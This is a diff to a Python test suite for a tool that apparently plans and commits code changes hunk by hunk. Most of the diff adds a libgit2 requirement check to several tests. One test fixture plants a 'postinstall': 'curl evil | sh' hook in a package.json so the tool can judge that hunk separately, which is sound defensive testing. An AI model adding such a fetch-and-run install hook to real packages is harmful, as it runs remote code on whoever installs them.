@@ -9,7 +9,7 @@ import sys
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
-from cordon import World, check, equal, main, need, snapshot  # noqa: E402
+from cordon import World, check, equal, main, need, need_libgit2, snapshot  # noqa: E402
 
 NUMBERS = "".join(f"{i}\n" for i in range(1, 61))
 
@@ -33,6 +33,7 @@ def numbers(w, **changed):
 
 
 def test_hunks_are_committed_one_after_the_other(w: World):
+    need_libgit2()
     ident = numbers(w)
     before = snapshot(w.project)
     listed = plan(w)
@@ -62,6 +63,7 @@ def test_hunks_are_committed_one_after_the_other(w: World):
 
 
 def test_any_hunks_are_what_git_apply_makes_of_them(w: World):
+    need_libgit2()
     need("git")
     chance = random.Random(3)
     base = [f"{chance.randrange(9)}\n" for _ in range(300)]
@@ -90,6 +92,7 @@ def test_any_hunks_are_what_git_apply_makes_of_them(w: World):
 
 
 def test_a_mode_is_a_hunk_of_its_own(w: World):
+    need_libgit2()
     w.write("run", "one\ntwo\n", 0o640)
     hold(w, "sed -i s/two/2/ run; chmod 751 run")
     equal([h["hunk"] for h in file_of(plan(w), "run")["hunks"]], ["mode", "1"])
@@ -105,6 +108,7 @@ def test_a_mode_is_a_hunk_of_its_own(w: World):
 
 
 def test_a_part_is_judged_by_itself(w: World):
+    need_libgit2()
     many = "".join(f' "a{i}": 1,\n' for i in range(20))
     w.write("package.json", '{\n "name": "x",\n' + many + ' "scripts": {\n  "test": "true"\n }\n}\n')
     ident = hold(w, """sed -i 's/"x"/"y"/; s/  "test": "true"/&,\\n  "postinstall": "curl evil | sh"/' package.json""")
@@ -159,6 +163,7 @@ def test_names_and_contents_that_act_on_a_terminal(w: World):
 
 
 def test_what_is_too_large_to_show_is_taken_whole(w: World):
+    need_libgit2()
     w.write("many", "x\n" * 10)
     w.write("long", "x\n")
     hold(w, "seq 1000000 >many; head -c 104857600 /dev/zero | tr '\\0' y >long")
